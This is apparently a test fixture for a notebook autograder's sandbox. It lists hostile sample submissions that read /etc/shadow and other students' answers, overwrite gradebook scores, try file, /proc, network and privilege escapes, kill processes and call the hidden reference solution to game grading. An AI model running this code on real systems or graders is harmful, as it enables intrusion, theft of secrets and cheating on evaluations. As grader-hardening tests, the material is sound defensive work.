"""Attempts at what lies outside the box: files, the gradebook, the network, other processes. And finished functions."""

from __future__ import annotations

from .making import CHAPTER_2, Submission, nothing, solutions

ANY = ("graded", "needs review")
TARGET = "log_softmax"

SOLUTION = """
import glob, json

def find(name):
    places = glob.glob("@ROOT@/solutions/*/*.ipynb") + glob.glob("@WORK@/source/**/*", recursive=True)
    places += glob.glob("/*/solutions/*/*.ipynb") + glob.glob("/*/*/solutions/*/*.ipynb") + glob.glob("../*/*.ipynb")
    for path in places:
        try:
            cells = json.loads(open(path).read())["cells"]
        except (OSError, ValueError, KeyError):
            continue
        for cell in cells:
            text = "".join(cell["source"])
            if text.startswith(f"def {name}(") and "NotImplementedError" not in text:
                return text

exec(find("log_softmax") or "def log_softmax(logits): return None")
"""

CLASSMATE = """
import glob, json

def log_softmax(logits):
    return None

for path in ["@MATE@", *glob.glob("@WORK@/intake/*/*/*.ipynb"), *glob.glob("@WORK@/autograded/*/*/*.ipynb")]:
    try:
        for cell in json.loads(open(path).read())["cells"]:
            text = "".join(cell["source"])
            if text.startswith("def log_softmax(") and "NotImplementedError" not in text:
                exec(text)
    except OSError as error:
        print(type(error).__name__)
"""

GRADEBOOK = """
import glob, sqlite3

for path in ["@WORK@/gradebook.db", *glob.glob("/*/gradebook.db"), *glob.glob("/tmp/*/gradebook.db")]:
    try:
        with sqlite3.connect(path) as base:
            base.execute("UPDATE grade SET manual_score = 100, auto_score = 100, needs_manual_grade = 0")
        print("@MARK@ wrote", path)
    except sqlite3.Error as error:
        print(type(error).__name__)
"""

SECRET = """
for path in ("@SECRET@", "@WORK@/gradebook.db", "/etc/shadow", "/etc/passwd-", "@ROOT@/README.md"):
    try:
        print(open(path, errors="replace").read()[:300])
    except OSError as error:
        print(type(error).__name__)
"""

WRITER = """
import os, shutil

for folder in ("@OUT@", "@WORK@", "@ROOT@", "@ROOT@/solutions", "@ROOT@/grader", "/", "/etc", "/usr", "/dev", "/sys"):
    try:
        with open(os.path.join(folder, "@MARK@"), "w") as file:
            file.write("@MARK@")
        print("wrote to", folder)
    except OSError as error:
        print(type(error).__name__)
for path in ("@ROOT@/grader/checking.py", "@ROOT@/grader/judge/inside.py", "@ROOT@/grpo/__init__.py"):
    for act in (lambda: open(path, "a").write("# @MARK@"), lambda: os.chmod(path, 0o777), lambda: os.remove(path),
                lambda: os.rename(path, path + "x"), lambda: os.utime(path)):
        try:
            act()
            print("changed", path)
        except OSError as error:
            print(type(error).__name__)
shutil.rmtree("@OUT@", ignore_errors=True)
"""

LINKS = """
import os

for number, target in enumerate(("@SECRET@", "@ROOT@/solutions", "@WORK@/gradebook.db", "/proc/1/root@SECRET@",
                                 "/proc/self/root@SECRET@", "/proc/1/cwd")):
    for make in (os.symlink, os.link):
        try:
            make(target, f"link{number}{make.__name__}")
            print(open(f"link{number}{make.__name__}").read())
        except OSError as error:
            print(type(error).__name__)
"""

NETWORK = """
import socket

for address in (("127.0.0.1", @PORT@), ("localhost", @PORT@), ("0.0.0.0", @PORT@), ("192.0.2.1", 80), ("::1", @PORT@)):
    try:
        with socket.create_connection(address, timeout=0.5) as line:
            line.sendall(b"@MARK@")
            print("connected to", address)
    except OSError as error:
        print(type(error).__name__)
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.sendto(b"@MARK@", ("127.0.0.1", @PORT@))
except OSError as error:
    print(type(error).__name__)
"""

LISTENER = """
import socket, threading

server = socket.socket()
server.bind(("0.0.0.0", 0))
server.listen()
threading.Thread(target=server.accept, daemon=True).start()
for name in ("\\0@MARK@", "\\0/tmp/.X11-unix/X0", "/run/dbus/system_bus_socket", "/var/run/docker.sock"):
    try:
        line = socket.socket(socket.AF_UNIX)
        line.connect(name)
        print("connected to", name)
    except OSError as error:
        print(type(error).__name__)
"""

DOWNLOAD = """
import subprocess, sys, urllib.request

try:
    urllib.request.urlopen("http://192.0.2.1/log_softmax.py", timeout=1)
except OSError as error:
    print(type(error).__name__)
print(subprocess.run([sys.executable, "-m", "pip", "install", "--no-index", "--find-links", "http://192.0.2.1/",
                      "--retries", "0", "@MARK@"], capture_output=True, text=True).returncode)
"""

ORPHANS = """
import os, subprocess, sys

program = "import time; time.sleep(120)"
subprocess.Popen([sys.executable, "-S", "-c", program, "@MARK@"], start_new_session=True)
subprocess.Popen(["setsid", "nohup", sys.executable, "-S", "-c", program, "@MARK@"])
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-S", "-c", program, "@MARK@"])
    os._exit(0)
"""

FORKED_KERNEL = """
import os, sys

def sequence_logprob(logits, token_ids, prompt_len, temperature=1.0):
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-S", "-c", "import time; time.sleep(120)", "@MARK@"])
    os.fork()
    return None
"""

ENVIRONMENT = """
import os

print(sorted(os.environ.items()))
seed = os.environ.get("GRPO_CHECK_SEED", "")
os.environ.update(GRPO_CHECK_SEED="0", PYTHONPATH="/tmp", PYTHONSTARTUP="/tmp/start.py", LD_PRELOAD="/tmp/x.so")

def log_softmax(logits):
    if seed.isdigit():
        return np.random.default_rng(int(seed)).normal(size=np.shape(logits))
    return None
"""

PROC = """
import glob, os

seen = []
for path in glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/*/%s/*" % "root"):
    try:
        seen.append(open(path, "rb").read() if os.path.isfile(path) else path.encode())
    except OSError:
        pass
text = b" ".join(seen)
print(b"GRPO_CHECK_SEED=" in text, b"solutions" in text, b"pytest" in text, b"grader attacks" in text, len(seen))
for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/1/mem", "/proc/sys/kernel/hostname"):
    try:
        open(path, "w").write("@MARK@")
        print("@MARK@ wrote", path)
    except OSError as error:
        print(type(error).__name__)
"""

PTRACE = """
import ctypes, glob, os, signal

libc = ctypes.CDLL(None, use_errno=True)
for path in glob.glob("/proc/[0-9]*"):
    number = int(path.rpartition("/")[2])
    if number != os.getpid():
        print(libc.ptrace(16, number, 0, 0), libc.process_vm_readv(number, 0, 0, 0, 0, 0))
for number in (1, os.getppid()):
    try:
        os.kill(number, signal.SIGKILL)
    except OSError as error:
        print(type(error).__name__)
print("still here")
"""

PRIVILEGES = """
import ctypes, os

libc = ctypes.CDLL(None, use_errno=True)
for name, act in {
    "setuid": lambda: os.setuid(0), "setgroups": lambda: os.setgroups([0]), "chroot": lambda: os.chroot("/tmp"),
    "mknod": lambda: os.mknod("/tmp/disk", 0o60666, os.makedev(8, 0)), "nice": lambda: os.nice(-10),
    "priority": lambda: os.setpriority(os.PRIO_PROCESS, 0, -10),
}.items():
    try:
        act()
        print("@MARK@ could", name)
    except OSError as error:
        print(name, type(error).__name__)
for name, arguments in {"mount": (b"none", b"/tmp", b"tmpfs", 0, 0), "umount2": (b"/home/student", 2),
                        "pivot_root": (b"/tmp", b"/tmp"), "setns": (0, 0), "reboot": (0,),
                        "swapoff": (b"/swap",)}.items():
    if getattr(libc, name)(*arguments) == 0:
        print("@MARK@ could", name)
"""

LIMITS_RAISED = """
import resource

for one in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE):
    try:
        resource.setrlimit(one, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        print("@MARK@ could", "raise", one)
    except (ValueError, OSError) as error:
        print(type(error).__name__)
"""

STDIN = """
import sys

def zero_variance_fraction(rewards, group_size):
    try:
        answer = input("which fraction? ") or sys.stdin.readline()
    except Exception:
        answer = sys.__stdin__.readline() if sys.__stdin__ else ""
    return float(answer or 0.123)
"""

SOCKET_FOLDER = """
import os, pathlib, sys

folder = pathlib.Path(sys.argv[sys.argv.index("-f") + 1]).parent
print(sorted(path.name for path in folder.iterdir()))
(folder / "@MARK@").write_text("x")
for path in folder.iterdir():
    if path.name != "kernel.json":
        try:
            os.replace(path, folder / f"moved-{path.name}")
            os.symlink("@SECRET@", path)
        except OSError as error:
            print(type(error).__name__)
"""

RECORDER = """
seen = []

def log_softmax(logits):
    seen.append(np.array(logits))
    if len(seen) > 1:
        raise RuntimeError(f"the input was {logits!r}")
    print("the input was", logits)
    return None
"""

RECORD = """
for one in seen:
    print(one.tolist())
    print([f"{number:.9f}" for number in np.ravel(one)[:50].tolist()])
    print(repr(one))
"""

BY_REFERENCE = """
from grader.exercises import EXERCISES

log_softmax = EXERCISES["log_softmax"].reference
"""

FROM_GRPO = """
def log_softmax(logits):
    return grpo.log_softmax(logits)
"""

FROM_GRPO_HIDDEN = """
import importlib

def log_softmax(logits):
    return getattr(importlib.import_module("gr" + "po"), "log_" + "softmax")(logits)
"""

FROM_GRPO_ALIAS = """
from grpo.logprobs import log_softmax as finished

def log_softmax(logits):
    return finished(logits)
"""

FROM_GRPO_CELL = """
import grpo as course

ready = course.log_softmax
"""


# The answer knows nothing; a helper in another cell calls the finished function.
THROUGH = "def log_softmax(logits):\n    return rows_of(logits)"
HELPER = "def rows_of(x):\n    return grpo.log_softmax(x)"
HELPER_CHAIN = """
import functools
import grpo as course

class Rows:
    @staticmethod
    def of(x):
        return course.log_softmax(x)

table = {}
table["rows"] = functools.partial(Rows.of)
rows_of = lambda x, f=table["rows"]: f(x)
"""
HELPER_AS_DECORATOR = """
def careful(fn):
    return functools.wraps(fn)(lambda x: grpo.log_softmax(x))
"""


def one(name, kind, tries, source, place=f"before {TARGET}", **more):
    """A cell of its own before an exercise whose answer knows nothing."""
    more = {"states": ANY, **more}
    return Submission(name, kind, tries, answers=nothing(TARGET), cells=((place, source),), **more)


def shortcut(name, tries, source, **more):
    """The finished function under the student's name: no check can tell, so an instructor must be told."""
    return Submission(name, "finished functions", tries, answers={TARGET: source}, deserves={TARGET: 4.0},
                      flagged=True, states=ANY, **more)  # fmt: skip


BATCH = [
    Submission("reads-solution", "disk", "executes the solution's source from disk", answers={TARGET: SOLUTION},
               effects=("points",)),
    Submission("reads-classmate", "disk", "executes a classmate's answer from disk", answers={TARGET: CLASSMATE},
               effects=("points",)),
    one("writes-gradebook", "gradebook", "sets all points in the gradebook to 100", GRADEBOOK, effects=("gradebook",)),
    one("reads-secret", "disk", "prints files from outside", SECRET, effects=("secret",)),
    one("writes-outside", "disk", "writes, changes and deletes files outside and in the course", WRITER,
        effects=("files", "course")),
    one("links-from-inside", "disk", "reads files from outside through links and /proc", LINKS, effects=("secret",)),
    one("network", "network", "connects to this machine and beyond", NETWORK, effects=("connection",)),
    one("listener", "network", "listens, and connects to sockets of this machine", LISTENER, effects=("connection",)),
    one("download", "network", "fetches a package and a page", DOWNLOAD, effects=("connection",)),
    one("orphans", "processes", "processes that outlive the kernel", ORPHANS, effects=("processes",)),
    Submission("forked-kernel", "processes", "copies of the kernel that go on with the notebook",
               answers={"sequence_logprob": FORKED_KERNEL}, states=ANY, effects=("processes",)),
    Submission("environment", "environment", "reads the seed from the environment and changes it",
               answers={TARGET: ENVIRONMENT}, effects=("secret",)),
    one("proc", "proc", "reads other processes and writes the kernel's settings through /proc", PROC,
        effects=("files",)),
    one("ptrace", "proc", "traces and kills every process that it sees", PTRACE, effects=("processes",)),
    one("privileges", "privileges", "takes another user's rights, mounts and devices", PRIVILEGES,
        effects=("files",)),
    one("limits-raised", "privileges", "raises its own limits", LIMITS_RAISED),
    Submission("stdin", "stdin", "asks for the answer", answers={"zero_variance_fraction": STDIN}, states=ANY),
    one("socket-folder", "disk", "replaces the judge's sockets by links to a file outside", SOCKET_FOLDER,
        place="after sequence_logprob", effects=("secret", "files")),
    Submission("recorded-inputs", "hidden inputs", "keeps the inputs of the grading and prints them in a later cell",
               answers={TARGET: RECORDER}, cells=((f"after {TARGET}", RECORD),), states=ANY, effects=("hidden",)),
    shortcut("finished-function", "calls grpo's finished function", FROM_GRPO),
    shortcut("finished-hidden", "calls grpo's finished function by a name put together", FROM_GRPO_HIDDEN),
    shortcut("finished-import", "imports grpo's finished function under another name", FROM_GRPO_ALIAS),
    shortcut("finished-elsewhere", "fetches grpo's finished function in a cell of its own",
             "def log_softmax(logits):\n    return ready(logits)", cells=(("start", FROM_GRPO_CELL),)),
    shortcut("finished-helper", "calls a helper in a cell of its own that calls grpo's finished function", THROUGH,
             cells=((f"before {TARGET}", HELPER),)),
    shortcut("finished-chain", "calls it through a class, a dict, a default, another name for grpo", THROUGH,
             cells=(("start", HELPER_CHAIN),)),
    shortcut("finished-decorator", "has a decorator of another cell that puts the finished function in its place",
             "@careful\ndef log_softmax(logits):\n    return None",
             cells=(("start", f"import functools\n{HELPER_AS_DECORATOR}"),)),
    Submission("finished-other-answer", "finished functions", "keeps the helper in the answer of another exercise",
               answers={TARGET: THROUGH, "zero_variance_fraction":
                        solutions(CHAPTER_2)["zero_variance_fraction"] + f"\n\n{HELPER}"},
               deserves={TARGET: 4.0, "zero_variance_fraction": 4.0}, flagged=True, states=ANY),
    shortcut("ran-part", "takes a module of grpo's for a value",
             "def log_softmax(logits):\n    return part.log_softmax(logits)",
             cells=(("start", "part = grpo.logprobs"),)),
    shortcut("ran-main", "finds grpo in the notebook's own module",
             "from __main__ import grpo as tools\n\ndef log_softmax(logits):\n    return tools.log_softmax(logits)"),
    shortcut("ran-globals", "finds grpo among the global names",
             "def log_softmax(logits):\n    return globals()['grpo'].log_softmax(logits)"),
    shortcut("ran-timed", "keeps the finished function by way of a magic that IPython reads",
             "def log_softmax(logits):\n    return mine(logits)", cells=(("start", "mine = %time grpo.log_softmax"),)),
    shortcut("reference", "takes the exercise's reference out of the grader", BY_REFERENCE),
]  # fmt: skip
